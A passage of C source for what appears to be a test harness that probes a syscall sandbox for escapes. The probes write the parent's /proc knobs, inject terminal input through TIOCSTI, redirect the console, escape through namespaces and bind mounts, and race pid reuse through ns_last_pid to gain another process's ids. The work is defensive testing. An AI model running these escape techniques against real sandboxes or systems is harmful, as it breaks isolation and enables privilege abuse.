      {"oom_score_adj", "1000"}, {"timerslack_ns", "100000000"}, {"coredump_filter", "0x7f"}, {"autogroup", "19"}};
  int oks = 0, first = 0;
  for (size_t i = 0; i < sizeof knobs / sizeof knobs[0]; ++i) {
    char path[128];
    snprintf(path, sizeof path, "/proc/%d/%s", p, knobs[i][0]);
    if (write_file(path, knobs[i][1]) == 0) {
      ++oks;
      printf("OK %s\n", knobs[i][0]);
    } else {
      if (!first) first = errno;
      printf("FAIL %s: %s\n", knobs[i][0], en(errno));
    }
  }
  printf("DONE\n");
  fflush(stdout);
  char c;
  long end = now_ms() + 10000;
  while (now_ms() < end) {
    struct pollfd pf = {0, POLLIN, 0};
    if (poll(&pf, 1, 100) > 0 && read(0, &c, 1) <= 0) break;
  }
  if (oks) return escaped("proc-knobs: %d knobs of the parent written", oks);
  return blocked("proc-knobs (every knob)", first);
}

/* ---- 4. priorities and limits ------------------------------------------- */
static int prio_parent(void) {
  pid_t p = getppid();
  printf("ppid=%d\n", p);
  int oks = 0, first = 0;
#define R(name, expr)                                      \
  do {                                                     \
    long r_ = (expr);                                      \
    if (r_ == 0) ++oks, printf("OK %s\n", name);           \
    else {                                                 \
      if (!first) first = errno;                           \
      printf("FAIL %s: %s\n", name, en(errno));            \
    }                                                      \
  } while (0)
  R("setpriority", setpriority(PRIO_PROCESS, p, 19));
  cpu_set_t mine, one;
  CPU_ZERO(&one);
  if (sched_getaffinity(0, sizeof mine, &mine) == 0 && CPU_COUNT(&mine) > 1) {
    int last = -1;
    for (int i = 0; i < CPU_SETSIZE; ++i)
      if (CPU_ISSET(i, &mine)) last = i;
    CPU_SET(last, &one);
    printf("# affinity target cpu %d\n", last);
    R("sched_setaffinity", sched_setaffinity(p, sizeof one, &one));
  } else {
    printf("SKIP sched_setaffinity: one cpu\n");
  }
  struct sched_param sp = {0};
  R("sched_setscheduler", sched_setscheduler(p, SCHED_IDLE, &sp));
  struct rlimit rl = {10, 10};
  R("prlimit64", prlimit(p, RLIMIT_NOFILE, &rl, NULL));
  R("ioprio_set", syscall(__NR_ioprio_set, SA_IOPRIO_WHO_PROCESS, p, SA_IOPRIO_PRIO_VALUE(SA_IOPRIO_CLASS_IDLE, 0)));
#undef R
  printf("DONE\n");
  fflush(stdout);
  /* Stay alive (so is the parent) until the test has looked. */
  char c;
  long end = now_ms() + 10000;
  while (now_ms() < end) {
    struct pollfd pf = {0, POLLIN, 0};
    if (poll(&pf, 1, 100) > 0 && read(0, &c, 1) <= 0) break;
  }
  if (oks) return escaped("prio-parent: %d calls changed the parent", oks);
  return blocked("prio-parent (every call)", first);
}

/* ---- 5. signals outside the sandbox --------------------------------------- */
#define VICTIM_FD 9

static int kill_outside(const char* how) {
  signal(SIGTERM, SIG_IGN);
  long r;
  int e;
  if (strncmp(how, "sigio-", 6) == 0) {
    /* SIGTERM to our own process group as the SIGIO of a socket */
    const char* step;
    info("%s: SIGTERM to process group %d", how, getpgrp());
    e = sigio_signal(how + 6, -getpgrp(), SIGTERM, &step);
    r = e ? -1 : 0;
    info("%s returned %s", step, e ? en(e) : "0");
  } else {
    pid_t target = strcmp(how, "-pgrp") == 0 ? -getpgrp() : (pid_t)atoi(how);
    info("kill(%d, SIGTERM) pid=%d pgrp=%d", target, getpid(), getpgrp());
    r = kill(target, SIGTERM);
    e = errno;
    info("kill returned %ld (%s)", r, r ? en(e) : "0");
  }
  /* The victim holds the only write end of the pipe at VICTIM_FD: EOF
   * means it died. */
  long end = now_ms() + 500;
  while (now_ms() < end) {
    struct pollfd pf = {VICTIM_FD, POLLIN, 0};
    if (poll(&pf, 1, 50) > 0) {
      char c;
      if (read(VICTIM_FD, &c, 1) == 0) return escaped("kill(%s): the victim outside the sandbox died", how);
    }
  }
  char step[64];
  snprintf(step, sizeof step, "kill(%s)", how);
  if (r != 0) return blocked(step, e);
  printf("BLOCKED %s: victim alive (kill returned 0)\n", step);
  return 1;
}

static int lab_child(char** cmd, int victim_pipe_r) {
  pid_t c = fork();
  if (c == 0) {
    signal(SIGTERM, SIG_DFL);
    if (dup2(victim_pipe_r, VICTIM_FD) < 0) _exit(126);
    execvp(cmd[0], cmd);
    _exit(127);
  }
  return c;
}

/* Starts a victim (default dispositions, pause) and CMD; reports whether
 * the victim survived and exits with CMD's status. */
static int lab_run(char** cmd) {
  signal(SIGTERM, SIG_IGN);
  int vp[2];
  if (pipe(vp) != 0) return 100;
  pid_t victim = fork();
  if (victim == 0) {
    signal(SIGTERM, SIG_DFL);
    close(vp[0]);
    alarm(20);
    if (write(vp[1], "r", 1) != 1) _exit(1);  /* ready: SIGTERM kills it now */
    for (;;) pause();
  }
  close(vp[1]);
  char ready;
  if (read(vp[0], &ready, 1) != 1) return 102;
  printf("lab: victim %d, pgrp %d\n", victim, getpgrp());
  fflush(stdout);
  pid_t c = lab_child(cmd, vp[0]);
  close(vp[0]);
  int st = 0, vst = 0, victim_done = 0;
  for (;;) {
    int s;
    pid_t w = waitpid(-1, &s, 0);
    if (w < 0) {
      if (errno == EINTR) continue;
      break;
    }
    if (w == victim) victim_done = 1, vst = s;
    if (w == c) {
      st = s;
      break;
    }
  }
  sleep_ms(50);
  if (!victim_done && waitpid(victim, &vst, WNOHANG) == victim) victim_done = 1;
  if (victim_done)
    printf("lab: victim died (%s %d)\n", WIFSIGNALED(vst) ? "signal" : "exit",
           WIFSIGNALED(vst) ? WTERMSIG(vst) : WEXITSTATUS(vst));
  else {
    printf("lab: victim alive\n");
    kill(victim, SIGKILL);
    waitpid(victim, NULL, 0);
  }
  int code = WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
  printf("lab: cmd status %d\n", code);
  fflush(stdout);
  return code;
}

/* init of a fresh pid namespace: a private /proc, then `body`; reaps
 * everything. */
static int ns_launch(int map_root, int (*body)(char**), char** cmd) {
  int flags = CLONE_NEWPID | CLONE_NEWNS;
  int e = (privileged() && !map_root) ? (unshare(flags) == 0 ? 0 : errno) : enter_userns(flags, map_root);
  if (e) {
    printf("lab: cannot create the namespaces: %s\n", en(e));
    return 120;
  }
  fflush(stdout);
  pid_t init = fork();
  if (init < 0) return 121;
  if (init == 0) {
    alarm(60);
    if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0 ||
        mount("proc", "/proc", "proc", MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL) != 0) {
      printf("lab: cannot mount /proc: %s\n", en(errno));
      _exit(122);
    }
    _exit(body(cmd));
  }
  int st;
  while (waitpid(init, &st, 0) < 0 && errno == EINTR) {
  }
  return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}

static int run_plain(char** cmd) {
  signal(SIGTERM, SIG_IGN);  /* pid 1 ignores it anyway; orphans are ours to reap */
  pid_t c = fork();
  if (c == 0) {
    signal(SIGTERM, SIG_DFL);
    execvp(cmd[0], cmd);
    _exit(127);
  }
  int st = 0;
  for (;;) {
    int s;
    pid_t w = waitpid(-1, &s, 0);
    if (w < 0 && errno == EINTR) continue;
    if (w < 0) break;
    if (w == c) {
      st = s;
      break;
    }
  }
  return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}

static int signal_lab(int argc, char** argv) {
  /* signal-lab pidns|pgrp|ns-run [--map-root] -- CMD... */
  int i = 3, map_root = 0;
  if (i < argc && strcmp(argv[i], "--map-root") == 0) map_root = 1, ++i;
  if (i < argc && strcmp(argv[i], "--") == 0) ++i;
  if (i >= argc) return 100;
  char** cmd = argv + i;
  if (strcmp(argv[2], "pgrp") == 0) {
    if (setpgid(0, 0) != 0) return 101;
    return lab_run(cmd);
  }
  if (strcmp(argv[2], "pidns") == 0) return ns_launch(map_root, lab_run, cmd);
  if (strcmp(argv[2], "ns-run") == 0) return ns_launch(map_root, run_plain, cmd);
  return 100;
}

/* ---- 6. terminal ---------------------------------------------------------- */
static int tty_fd(void) {
  for (int fd = 0; fd < 3; ++fd)
    if (isatty(fd)) return fd;
  return open("/dev/tty", O_RDWR | O_CLOEXEC);
}

static int tiocsti(const char* s) {
  int fd = tty_fd();
  if (fd < 0) return blocked("open tty", errno);
  int n = 0;
  for (const char* p = s; *p; ++p) {
    char c = *p;
    if (c == '\\' && p[1] == 'n') c = '\n', ++p;
    if (ioctl(fd, TIOCSTI, &c) != 0) return blocked("ioctl(TIOCSTI)", errno);
    ++n;
  }
  return escaped("tiocsti: %d bytes pushed into the terminal", n);
}

static int tioclinux(void) {
  int fd = tty_fd();
  if (fd < 0) return blocked("open tty", errno);
  char sub = 3; /* TIOCL_PASTESEL */
  if (ioctl(fd, TIOCLINUX, &sub) != 0) return blocked("ioctl(TIOCLINUX)", errno);
  return escaped("tioclinux: paste accepted");
}

static int tioccons(void) {
  int fd = tty_fd();
  if (fd < 0) return blocked("open tty", errno);
  if (ioctl(fd, TIOCCONS) != 0) return blocked("ioctl(TIOCCONS)", errno);
  /* Undo at once: TIOCCONS on /dev/console ends the redirection. */
  int c = open("/dev/console", O_WRONLY | O_NOCTTY | O_CLOEXEC);
  int undone = c >= 0 && ioctl(c, TIOCCONS) == 0;
  if (c >= 0) close(c);
  return escaped("tioccons: console output redirected to our terminal (undone: %s)", undone ? "yes" : "NO");
}

/* ---- 7. namespaces and mounts ------------------------------------------------ */
static const char* nsdir;

static int in_ns_prelude(int flags) {
  /* unprivileged: the namespace call carries CLONE_NEWUSER too */
  return privileged() ? flags : (flags | CLONE_NEWUSER);
}

static int sub(const char* rel, char* out, size_t len) {
  snprintf(out, len, "%s/%s", nsdir, rel);
  return 0;
}

static long do_clone(unsigned long flags) {
  long pid = syscall(__NR_clone, flags | SIGCHLD, 0, 0, 0, 0);
  if (pid == 0) _exit(0);
  if (pid > 0) waitpid((pid_t)pid, NULL, 0);
  return pid > 0 ? 0 : -1;
}

/* Each returns 0 or errno of the call named by the item. */
static int item_unshare(int f) { return unshare(f == CLONE_NEWUSER ? f : in_ns_prelude(f)) == 0 ? 0 : errno; }

static int item_clone(int f) { return do_clone(f == CLONE_NEWUSER ? (unsigned long)f : (unsigned long)in_ns_prelude(f)) == 0 ? 0 : errno; }

static int item_clone3(void) {
  struct sa_clone_args a;
  memset(&a, 0, sizeof a);
  a.flags = (uint64_t)in_ns_prelude(CLONE_NEWNS);
  a.exit_signal = SIGCHLD;
  long pid = syscall(__NR_clone3, &a, sizeof a);
  if (pid == 0) _exit(0);
  if (pid < 0) return errno;
  waitpid((pid_t)pid, NULL, 0);
  return 0;
}

static int item_setns(const char* name, int f) {
  char path[64];
  if (f == CLONE_NEWUSER) {
    /* enter a child user namespace of ours, held open by a helper */
    int p[2];
    if (pipe(p) != 0) return 200;
    pid_t h = fork();
    if (h == 0) {
      char c = unshare(CLONE_NEWUSER) == 0 ? 'y' : 'n';
      if (write(p[1], &c, 1) != 1) _exit(1);
      pause();
      _exit(0);
    }
    char c = 'n';
    if (read(p[0], &c, 1) != 1) c = 'n';
    snprintf(path, sizeof path, "/proc/%d/ns/user", h);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    int r = fd >= 0 && setns(fd, CLONE_NEWUSER) == 0 ? 0 : errno;
    kill(h, SIGKILL);
    waitpid(h, NULL, 0);
    return r;
  }
  if (!privileged()) (void)unshare(CLONE_NEWUSER | f);  /* so that we own a namespace of that type */
  if (f == CLONE_NEWPID && !privileged()) {
    /* the new pid namespace exists once its first process does */
    pid_t h = fork();
    if (h == 0) {
      pause();
      _exit(0);
    }
    snprintf(path, sizeof path, "/proc/%d/ns/pid", h);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    int r = fd < 0 ? 201 : setns(fd, CLONE_NEWPID) == 0 ? 0 : errno;
    kill(h, SIGKILL);
    waitpid(h, NULL, 0);
    return r;
  }
  snprintf(path, sizeof path, "/proc/self/ns/%s%s", name, f == CLONE_NEWTIME && !privileged() ? "_for_children" : "");
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 201;
  return setns(fd, 0) == 0 ? 0 : errno;
}

static int item_chroot(void) {
  if (!privileged()) (void)enter_userns(0, 0);
  return chroot("/") == 0 ? 0 : errno;
}

/* For the mount family: a private mount namespace when one can be had;
 * otherwise (the sandbox refused it) the call is still made, with arguments
 * that cannot change anything outside (a missing source, a target that is no
 * mount point), so the errno tells who refused. */
static int mount_family(const char* item) {
  char a[4096], b[4096], root[4096], missing[4096];
  sub("a", a, sizeof a);
  sub("b", b, sizeof b);
  sub("root", root, sizeof root);
  sub("missing", missing, sizeof missing);
  int have_ns = private_mount_ns() == 0;
#define IT(x) (strcmp(item, x) == 0)
  if (IT("mount(MS_BIND)")) return mount(have_ns ? a : missing, b, NULL, MS_BIND, NULL) == 0 ? 0 : errno;
  if (IT("mount(tmpfs)")) {
    if (!have_ns) return mount("tmpfs", missing, "tmpfs", 0, NULL) == 0 ? 0 : errno;
    return mount("tmpfs", b, "tmpfs", 0, NULL) == 0 ? 0 : errno;
  }
  if (IT("umount2")) {
    if (have_ns) (void)mount(a, b, NULL, MS_BIND, NULL);
    return umount2(b, 0) == 0 ? 0 : errno;
  }
  if (IT("pivot_root")) {
    if (have_ns) (void)mount(root, root, NULL, MS_BIND | MS_REC, NULL);
    if (chdir(root) != 0) return 202;
    return syscall(__NR_pivot_root, ".", ".") == 0 ? 0 : errno;
  }
  if (IT("open_tree")) {
    long fd = syscall(__NR_open_tree, AT_FDCWD, a, SA_OPEN_TREE_CLONE | SA_OPEN_TREE_CLOEXEC);
    return fd >= 0 ? 0 : errno;
  }
  if (IT("move_mount")) {
    long fd = have_ns ? syscall(__NR_open_tree, AT_FDCWD, a, SA_OPEN_TREE_CLONE | SA_OPEN_TREE_CLOEXEC) : -1;
    return syscall(__NR_move_mount, (int)fd, "", AT_FDCWD, b, SA_MOVE_MOUNT_F_EMPTY_PATH) == 0 ? 0 : errno;
  }
  if (IT("fsopen")) return syscall(__NR_fsopen, "tmpfs", SA_FSOPEN_CLOEXEC) >= 0 ? 0 : errno;
  if (IT("fsconfig") || IT("fsmount")) {
    long fd = syscall(__NR_fsopen, "tmpfs", SA_FSOPEN_CLOEXEC);
    long r = syscall(__NR_fsconfig, (int)fd, SA_FSCONFIG_CMD_CREATE, NULL, NULL, 0);
    if (IT("fsconfig")) return r == 0 ? 0 : errno;
    return syscall(__NR_fsmount, (int)fd, SA_FSMOUNT_CLOEXEC, 0) >= 0 ? 0 : errno;
  }
  if (IT("fspick")) return syscall(__NR_fspick, AT_FDCWD, "/", SA_FSPICK_CLOEXEC) >= 0 ? 0 : errno;
  if (IT("mount_setattr")) {
    if (have_ns) (void)mount(a, b, NULL, MS_BIND, NULL);
    struct sa_mount_attr at = {SA_MOUNT_ATTR_RDONLY, 0, 0, 0};
    return syscall(__NR_mount_setattr, AT_FDCWD, b, 0, &at, sizeof at) == 0 ? 0 : errno;
  }
#undef IT
  return 203;
}

struct ns_item {
  const char* name;
  int kind; /* 0 unshare, 1 clone, 2 clone3, 3 setns, 4 chroot, 5 mount family */
  int flag;
  const char* ns;
};

static int run_item(const struct ns_item* it) {
  switch (it->kind) {
    case 0: return item_unshare(it->flag);
    case 1: return item_clone(it->flag);
    case 2: return item_clone3();
    case 3: return item_setns(it->ns, it->flag);
    case 4: return item_chroot();
    default: return mount_family(it->name);
  }
}

static int ns_calls(const char* dir) {
  nsdir = dir;
  static const struct ns_item items[] = {
      {"unshare(CLONE_NEWNS)", 0, CLONE_NEWNS, 0},
      {"unshare(CLONE_NEWUSER)", 0, CLONE_NEWUSER, 0},
      {"unshare(CLONE_NEWPID)", 0, CLONE_NEWPID, 0},
      {"unshare(CLONE_NEWNET)", 0, CLONE_NEWNET, 0},
      {"unshare(CLONE_NEWUTS)", 0, CLONE_NEWUTS, 0},
      {"unshare(CLONE_NEWIPC)", 0, CLONE_NEWIPC, 0},
      {"unshare(CLONE_NEWCGROUP)", 0, CLONE_NEWCGROUP, 0},
      {"unshare(CLONE_NEWTIME)", 0, CLONE_NEWTIME, 0},
      {"clone(CLONE_NEWUSER)", 1, CLONE_NEWUSER, 0},
      {"clone(CLONE_NEWNS)", 1, CLONE_NEWNS, 0},
      {"clone(CLONE_NEWPID)", 1, CLONE_NEWPID, 0},
      {"clone(CLONE_NEWNET)", 1, CLONE_NEWNET, 0},
      {"clone3(CLONE_NEWNS)", 2, CLONE_NEWNS, 0},
      {"setns(net)", 3, CLONE_NEWNET, "net"},
      {"setns(uts)", 3, CLONE_NEWUTS, "uts"},
      {"setns(ipc)", 3, CLONE_NEWIPC, "ipc"},
      {"setns(mnt)", 3, CLONE_NEWNS, "mnt"},
      {"setns(cgroup)", 3, CLONE_NEWCGROUP, "cgroup"},
      {"setns(pid)", 3, CLONE_NEWPID, "pid"},
      {"setns(time)", 3, CLONE_NEWTIME, "time"},
      {"setns(user)", 3, CLONE_NEWUSER, "user"},
      {"chroot", 4, 0, 0},
      {"mount(MS_BIND)", 5, 0, 0},
      {"mount(tmpfs)", 5, 0, 0},
      {"umount2", 5, 0, 0},
      {"pivot_root", 5, 0, 0},
      {"open_tree", 5, 0, 0},
      {"move_mount", 5, 0, 0},
      {"fsopen", 5, 0, 0},
      {"fsconfig", 5, 0, 0},
      {"fsmount", 5, 0, 0},
      {"fspick", 5, 0, 0},
      {"mount_setattr", 5, 0, 0},
  };
  int oks = 0;
  for (size_t i = 0; i < sizeof items / sizeof items[0]; ++i) {
    fflush(stdout);
    pid_t c = fork();
    if (c == 0) {
      alarm(5);
      _exit(run_item(&items[i]));
    }
    int st;
    while (waitpid(c, &st, 0) < 0 && errno == EINTR) {
    }
    int r = WIFEXITED(st) ? WEXITSTATUS(st) : 250;
    if (r == 0) ++oks, printf("%s: OK\n", items[i].name);
    else if (r >= 200) printf("%s: SETUP-FAILED(%d)\n", items[i].name, r);
    else printf("%s: %s\n", items[i].name, en(r));
  }
  if (oks) return escaped("ns-calls: %d calls succeeded", oks);
  return blocked("ns-calls (every call)", EPERM);
}

/* ---- 8. the bind-mount write ------------------------------------------------ */
static int bindmount_write(const char* allowed, const char* denied) {
  /* Unprivileged: a user namespace for the capability to mount. No id maps
   * are written (a write sandbox may well refuse /proc/self/uid_map): the
   * capabilities in the new namespace do not depend on them. */
  int e = unshare(privileged() ? CLONE_NEWNS : (CLONE_NEWUSER | CLONE_NEWNS)) == 0 ? 0 : errno;
  if (e) return blocked(privileged() ? "unshare(CLONE_NEWNS)" : "unshare(CLONE_NEWUSER|CLONE_NEWNS)", e);
  if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0) return blocked("mount(MS_PRIVATE)", errno);
  if (mount(denied, allowed, NULL, MS_BIND, NULL) != 0) return blocked("mount(MS_BIND)", errno);
  char path[4096];
  snprintf(path, sizeof path, "%s/secret", allowed);
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0) return blocked("open", errno);
  if (write(fd, "pwned\n", 6) != 6) return blocked("write", errno);
  close(fd);
  return escaped("bindmount-write: %s landed in %s/secret", path, denied);
}

/* ---- 9. connect after pid reuse ------------------------------------------------ */
static int connect_reuse(const char* slowpath, int rounds) {
  struct sockaddr_un un;
  memset(&un, 0, sizeof un);
  un.sun_family = AF_UNIX;
  if (strlen(slowpath) >= sizeof un.sun_path) return blocked("path too long", ENAMETOOLONG);
  strcpy(un.sun_path, slowpath);
  int lp = open("/proc/sys/kernel/ns_last_pid", O_WRONLY | O_CLOEXEC);
  if (lp < 0) return blocked("open ns_last_pid", errno);
  int last_pid = fcntl(lp, F_DUPFD_CLOEXEC, 10);
  close(lp);
  /* fd 3 is C's and D's socket; /dev/null holds the place in between */
  int null = open("/dev/null", O_RDONLY | O_CLOEXEC);
  int null_fd = fcntl(null, F_DUPFD_CLOEXEC, 10);
  close(null);
  long delay_us = getenv("SYD_ATTACK_DELAY_US") ? atol(getenv("SYD_ATTACK_DELAY_US")) : 3000;
  int reused = 0, stolen = 0;
  for (int round = 1; round <= rounds; ++round) {
    dup2(null_fd, 3);
    int ready[2];
    if (pipe2(ready, O_CLOEXEC) != 0) return 100;
    pid_t c = fork();
    if (c == 0) {
      int s = socket(AF_UNIX, SOCK_STREAM, 0);
      if (s < 0 || dup2(s, 3) != 3) _exit(3);
      if (write(ready[1], "c", 1) != 1) _exit(4);
      long r = connect(3, (struct sockaddr*)&un, sizeof un);
      (void)r;
      for (;;) pause();
    }
    close(ready[1]);
    char ch;
    if (read(ready[0], &ch, 1) != 1) return 101;
    close(ready[0]);
    usleep((useconds_t)delay_us);  /* the supervisor is now resolving the slow path */
    kill(c, SIGKILL);
    waitpid(c, NULL, 0);
    char num[32];
    snprintf(num, sizeof num, "%d", c - 1);
    if (pwrite(last_pid, num, strlen(num), 0) < 0) return blocked("write ns_last_pid", errno);
    /* D's fresh, unconnected socket is at fd 3 from its first instant. */
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0 || dup2(s, 3) != 3) return 102;
    close(s);
    pid_t d = fork();
    if (d == 0) {
      if (getpid() != c) _exit(2);
      long end = now_ms() + 600;
      while (now_ms() < end) {
        struct sockaddr_un peer;
        socklen_t pl = sizeof peer;
        if (getpeername(3, (struct sockaddr*)&peer, &pl) == 0) _exit(0);
        sleep_ms(2);
      }
      _exit(1);
    }
    dup2(null_fd, 3);
    int st;
    waitpid(d, &st, 0);
    int r = WIFEXITED(st) ? WEXITSTATUS(st) : 255;
    if (r != 2) ++reused;
    if (r == 0) ++stolen;
    printf("round %d: C=%d D=%d %s\n", round, c, d,
           r == 0 ? "D's socket was connected by someone else" : r == 1 ? "D's socket untouched" : "pid not reused");
    fflush(stdout);
  }
  printf("# pid reused in %d of %d rounds\n", reused, rounds);
  if (stolen) return escaped("connect-reuse: a dead caller's connect was made on the socket of pid reuser (%d of %d rounds)", stolen, rounds);
  if (!reused) return blocked("pid reuse", EAGAIN);
  printf("BLOCKED connect-reuse: no reused pid's socket was connected\n");
  return 1;
}

/* ---- 9b. a reused pid and the process table --------------------------------------
 * The supervisor keeps each process's root and ids from its first checked
 * call, keyed by pid. A (root, the namespace's "/") makes one and exits; P
 * takes another root (chroot DIR) or uid (65534), sets ns_last_pid and
 * forks B with A's pid; B's first call is mkdir. B must be resolved and
 * performed with its own root and ids:
 *  - root: mkdir("/sub/x") lands in DIR/sub/x (with A's root: ENOENT, no
 *    /sub there);
 *  - ids: mkdir("DIR/ro/x") in a 0755 directory owned by root is EACCES
 *    for uid 65534 (with A's ids: created). Needs real root. */
static int stale_entry(const char* dir, int rounds, const char* what) {
  const int ids = strcmp(what, "ids") == 0;
  int lp = open("/proc/sys/kernel/ns_last_pid", O_WRONLY | O_CLOEXEC);
  if (lp < 0) return blocked("open ns_last_pid", errno);
  char path[PATH_MAX];
  int reused = 0, wrong = 0;
  for (int round = 1; round <= rounds; ++round) {
    pid_t a = fork();
    if (a == 0) {
      /* A checked write call: A's entry gets A's root and ids. */
      snprintf(path, sizeof path, "%s/a.%d", dir, round);
      if (mkdir(path, 0755) != 0 || rmdir(path) != 0) _exit(3);
      _exit(0);
    }
    int st;
    waitpid(a, &st, 0);
    if (!WIFEXITED(st) || WEXITSTATUS(st) != 0) return blocked("A's checked call", EIO);
    pid_t p = fork();
    if (p == 0) {
      /* (ns_last_pid first: writing it takes CAP_SYS_ADMIN) */
      char num[32];
      snprintf(num, sizeof num, "%d", a - 1);
      if (pwrite(lp, num, strlen(num), 0) < 0) _exit(5);
      if (ids) {
        if (setgroups(0, NULL) != 0 || setresgid(65534, 65534, 65534) != 0 || setresuid(65534, 65534, 65534) != 0)
          _exit(4);
      } else if (chroot(dir) != 0 || chdir("/") != 0) {
        _exit(4);
      }
      pid_t b = fork();
      if (b == 0) {
        if (getpid() != a) _exit(2);
        if (ids) snprintf(path, sizeof path, "%s/ro/x.%d", dir, round);
        else snprintf(path, sizeof path, "/sub/x.%d", round);
        if (mkdir(path, 0755) == 0) _exit(ids ? 1 : 0);
        if (errno == (ids ? EACCES : ENOENT)) _exit(ids ? 0 : 1);
        printf("B: mkdir %s: %s\n", path, en(errno));
        fflush(stdout);
        _exit(6);
      }
      int bst;
      waitpid(b, &bst, 0);
      _exit(WIFEXITED(bst) ? WEXITSTATUS(bst) : 7);
    }
    waitpid(p, &st, 0);
    const int r = WIFEXITED(st) ? WEXITSTATUS(st) : 255;
    if (r != 2) ++reused;
    if (r == 1) ++wrong;
    printf("round %d: A=%d %s\n", round, a,
           r == 0 ? "B had its own root and ids" : r == 1 ? "B had A's root or ids" : r == 2 ? "pid not reused" : "error");
    fflush(stdout);
    if (r > 2) return blocked("round", r);
  }
  printf("# pid reused in %d of %d rounds\n", reused, rounds);
  if (wrong) return escaped("stale-entry: a process that took a dead one's pid got its %s (%d of %d rounds)", ids ? "ids" : "root", wrong, rounds);
  if (!reused) return blocked("pid reuse", EAGAIN);
  printf("BLOCKED stale-entry: every B had its own %s\n", ids ? "ids" : "root");
  return 1;
}

/* ---- 9c. an entry made after RECV ---------------------------------------------
 * C (uid 65534) calls mkdir(DIR/ro/pwned) in a root-only 0755 directory
 * after creating HOLD, so syd-hold.so keeps the worker that received the
 * call from looking C up for 3 s. Meanwhile C is killed, X1 (uid 0) takes
 * C's pid through ns_last_pid and makes a checked call of its own, which
 * gives X1 a process-table entry. The held worker must not take X1's entry
 * for C's: the mkdir is never performed, with X1's ids or any. Natively C
 * gets EACCES. Root only (setresuid). */
static int entry_after_recv(const char* dir, const char* hold_file) {
  char target[PATH_MAX];
  snprintf(target, sizeof target, "%s/ro/pwned", dir);
  int lp = open("/proc/sys/kernel/ns_last_pid", O_WRONLY | O_CLOEXEC);
  if (lp < 0) return blocked("open ns_last_pid", errno);
  int ready[2], go[2];
  if (pipe(ready) != 0 || pipe(go) != 0) return 100;
  pid_t c = fork();
  if (c == 0) {
    if (setgroups(0, NULL) != 0 || setresgid(65534, 65534, 65534) != 0 || setresuid(65534, 65534, 65534) != 0) _exit(4);
    if (write(ready[1], "c", 1) != 1) _exit(5);
    char g;
    if (read(go[0], &g, 1) != 1) _exit(6);
    int hf = open(hold_file, O_WRONLY | O_CREAT | O_CLOEXEC, 0666);
    if (hf < 0) _exit(7);
    close(hf);
    long r = syscall(SYS_mkdir, target, 0755);
    printf("C: mkdir: %s\n", r == 0 ? "made" : en(errno));
    fflush(stdout);
    _exit(0);
  }
  char ch;
  if (read(ready[0], &ch, 1) != 1) return 101;
  /* A call of this process between C's: a run of calls from one thread
   * skips the poll for queued calls (worker_pool.cc), which C's must get. */
  char probe[PATH_MAX];
  snprintf(probe, sizeof probe, "%s/parent-probe", dir);
  unlink(probe);
  if (write(go[1], "g", 1) != 1) return 102;
  usleep(800000); /* C's mkdir is received and held */
  kill(c, SIGKILL);
  waitpid(c, NULL, 0);
  char num[32];
  snprintf(num, sizeof num, "%d", c - 1);
  if (pwrite(lp, num, strlen(num), 0) < 0) return blocked("write ns_last_pid", errno);
  pid_t x = fork();
  if (x == 0) {
    if (getpid() != c) _exit(2);
    snprintf(probe, sizeof probe, "%s/x1-probe", dir);
    unlink(probe); /* checked: X1's entry, uid 0, made after C's RECV */
    sleep(4);      /* alive while the held worker looks C up */
    _exit(0);
  }
  int st;
  waitpid(x, &st, 0);
  if (WIFEXITED(st) && WEXITSTATUS(st) == 2) return blocked("pid reuse", EAGAIN);
  printf("# X1 took C's pid %d\n", c);
  struct stat sb;
  if (stat(target, &sb) == 0) return escaped("entry-after-recv: %s made (uid %d) for a killed uid-65534 caller", target, sb.st_uid);
  printf("BLOCKED entry-after-recv: %s absent\n", target);
  return 1;
}

/* ---- 9d. what was read of a caller that died ----------------------------------
 * C (uid 0) makes its first checked call, a mkdir of DIR/c-made, after
 * creating HOLD, so syd-hold.so (SYD_HOLD_AT=status) keeps the worker that
 * read C's ids for its process-table entry from going on for 3 s. Meanwhile
 * C is killed and N (uid 65534), forked with C's pid through ns_last_pid,
 * waits quietly. When the worker goes on, C's ids must not be kept for the
 * process that now has C's pid: N's mkdir of DIR/ro/pwned, in a root-only
 * directory, is EACCES as natively, not performed as root. Root only. */
static int status_of_the_dead(const char* dir, const char* hold_file) {
  char target[PATH_MAX], probe[PATH_MAX];
  snprintf(target, sizeof target, "%s/ro/pwned", dir);
  int lp = open("/proc/sys/kernel/ns_last_pid", O_WRONLY | O_CLOEXEC);
  if (lp < 0) return blocked("open ns_last_pid", errno);
  /* This process's own entry is made and filled now, not while HOLD is set. */
  snprintf(probe, sizeof probe, "%s/parent-probe", dir);
  unlink(probe);
  int go[2];
  if (pipe(go) != 0) return 100;
  pid_t c = fork();
  if (c == 0) {
    char g;
    if (read(go[0], &g, 1) != 1) _exit(6);
    char made[PATH_MAX];
    snprintf(made, sizeof made, "%s/c-made", dir);
    long r = syscall(SYS_mkdir, made, 0755); /* C's first checked call */
    printf("C: mkdir: %s\n", r == 0 ? "made" : en(errno));
    fflush(stdout);
    _exit(0);
  }
  int hf = open(hold_file, O_WRONLY | O_CREAT | O_CLOEXEC, 0666);
  if (hf < 0) return blocked("create HOLD", errno);
  close(hf);
  if (write(go[1], "g", 1) != 1) return 102;
  usleep(800000); /* C's mkdir is received; its status read and held */
  kill(c, SIGKILL);
  waitpid(c, NULL, 0);
  pid_t p = fork();
  if (p == 0) {
    char num[32];
    snprintf(num, sizeof num, "%d", c - 1);
    if (pwrite(lp, num, strlen(num), 0) < 0) _exit(5);
    if (setgroups(0, NULL) != 0 || setresgid(65534, 65534, 65534) != 0 || setresuid(65534, 65534, 65534) != 0) _exit(4);
    pid_t n = fork();
    if (n == 0) {
      if (getpid() != c) _exit(2);
      usleep(3500000); /* no call until the held worker has gone on */
      if (mkdir(target, 0755) == 0) _exit(1);
      if (errno == EACCES) _exit(0);
